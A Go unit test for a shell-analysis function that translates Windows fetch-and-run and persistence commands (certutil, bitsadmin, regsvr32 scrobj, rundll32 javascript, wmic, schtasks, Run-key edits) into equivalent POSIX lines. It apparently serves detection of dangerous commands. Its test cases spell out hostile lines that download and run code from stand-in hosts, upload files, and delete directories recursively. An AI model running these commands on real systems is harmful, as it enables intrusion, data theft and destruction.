package shell

import "testing"

// TestWindowsToolLine: Windows' fetch-and-run programs read as the POSIX
// lines with the same effect; their ordinary uses say nothing more.
func TestWindowsToolLine(t *testing.T) {
	for _, tc := range []struct {
		words []string
		want  string
	}{
		{[]string{"certutil", "-urlcache", "-split", "-f", "http://h.example/a.exe", "a.exe"}, "curl -o a.exe http://h.example/a.exe"},
		{[]string{"certutil", "-verifyctl", "-f", "-split", "http://h.example/a.exe"}, "curl -O http://h.example/a.exe"},
		{[]string{"certutil", "-encode", "k", "k.b64"}, "base64 k > k.b64"},
		{[]string{"certutil", "-hashfile", "x.exe", "SHA256"}, ""},
		{[]string{"bitsadmin", "/transfer", "j", "/download", "/priority", "high", "http://h.example/a", "C:\\t\\a"}, "curl -o /mnt/c/t/a http://h.example/a"},
		{[]string{"bitsadmin", "/transfer", "j", "/upload", "http://h.example/u", "k"}, "curl -T k http://h.example/u"},
		{[]string{"regsvr32", "/s", "/i:https://h.example/x.sct", "scrobj.dll"}, "curl -s https://h.example/x.sct | sh"},
		{[]string{"regsvr32", "/s", "mine.dll"}, ""},
		{[]string{"rundll32", `javascript:"\..\mshtml,RunHTMLApplication ";GetObject("script:https://h.example/r.sct")`}, "curl -s https://h.example/r.sct | sh"},
		{[]string{"rundll32", "shell32.dll,Control_RunDLL", "desk.cpl"}, ""},
		{[]string{"pcalua", "-a", `\\198.51.100.7\s\p.exe`}, "curl -s http://198.51.100.7/s/p.exe | sh"},
		{[]string{"cscript", "//nologo", `\\198.51.100.7\s\r.vbs`}, "curl -s http://198.51.100.7/s/r.vbs | sh"},
		{[]string{"cscript", "//nologo", "build.vbs"}, ""},
		{[]string{"wmic", "/node:localhost", "process", "call", "create", "cmd /c del /s /q C:\\x"}, "cmd /c del /s /q /mnt/c/x"},
		{[]string{"forfiles", "/p", `C:\w`, "/s", "/m", "*", "/c", "cmd /c del @path"}, "cmd /c del /mnt/c/w/ /s"},
		{[]string{"sc", "create", "w", "binPath=", `C:\w\worker.exe`, "start=", "auto"}, "/mnt/c/w/worker.exe"},
		{[]string{"sc", "query"}, ""},
		{[]string{`\\198.51.100.7\s\x.exe`, "/S"}, "curl -s http://198.51.100.7/s/x.exe | sh"},
		{[]string{"wmic", "os", "get", "/format:https://h.example/x.xsl"}, "curl -s https://h.example/x.xsl | sh"},
		{[]string{"wmic", "os", "get", "/format:list"}, ""},
		{[]string{"hh.exe", "https://h.example/x.chm"}, "curl -s https://h.example/x.chm | sh"},
		{[]string{"ieexec", "http://h.example/a.exe"}, "curl -s http://h.example/a.exe | sh"},
		{[]string{"rundll32", "url.dll,OpenURL", "https://h.example/x.hta"}, "curl -s https://h.example/x.hta | sh"},
		{[]string{"rundll32", "url.dll,FileProtocolHandler", "https://h.example/docs"}, ""},
		{[]string{"rundll32", "zipfldr.dll,RouteTheCall", `\\198.51.100.7\s\x.exe`}, "curl -s http://198.51.100.7/s/x.exe | sh"},
		{[]string{"odbcconf", "/a", "{REGSVR", `\\198.51.100.7\s\x.dll}`}, "curl -s http://198.51.100.7/s/x.dll | sh"},
		{[]string{"esentutl", "/y", `\\198.51.100.7\s\p.exe`, "/d", `C:\w\p.exe`, "/o"}, "curl -o /mnt/c/w/p.exe http://198.51.100.7/s/p.exe"},
		{[]string{"expand", "a.cab", "b"}, ""},
		{[]string{"bitsadmin", "/SetNotifyCmdLine", "j", `C:\w\p.exe`, "NUL"}, "/mnt/c/w/p.exe NUL"},
		// a process line is no cmd.exe line: its | and & are the program's
		// words (PowerShell joins them and runs the pipeline), unless the
		// program is cmd.exe, which splits them itself
		{[]string{"wmic", "process", "call", "create", "powershell -c iwr http://h.example/x | iex"}, "powershell -c iwr http://h.example/x '|' iex"},
		{[]string{"sc", "create", "w", "binPath=", "pwsh -c a & b"}, "pwsh -c a '&' b"},
		{[]string{"schtasks", "/create", "/tn", "t", "/tr", "pwsh -c a | b", "/sc", "daily"}, "pwsh -c a '|' b"},
		{[]string{"schtasks", "/query"}, ""},
		{[]string{"runas", "/user:admin", "pwsh -c a | b"}, "pwsh -c a '|' b"},
		{[]string{"reg", "add", `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, "/v", "u", "/d", "pwsh -c a | b"}, "pwsh -c a '|' b"},
		{[]string{"reg", "add", `HKCU\Software\Acme`, "/v", "u", "/d", "pwsh -c a | b"}, ""},
		{[]string{"wmic", "process", "call", "create", `C:\Windows\System32\cmd.exe /c whoami & rd /s /q C:\x`}, "/mnt/c/Windows/System32/cmd.exe /c whoami\nrm -r -f /mnt/c/x"},
	} {
		if got := windowsToolLine(progName(tc.words[0]), tc.words); got != tc.want {
			t.Errorf("windowsToolLine(%q) = %q, want %q", tc.words, got, tc.want)
		}
	}
}
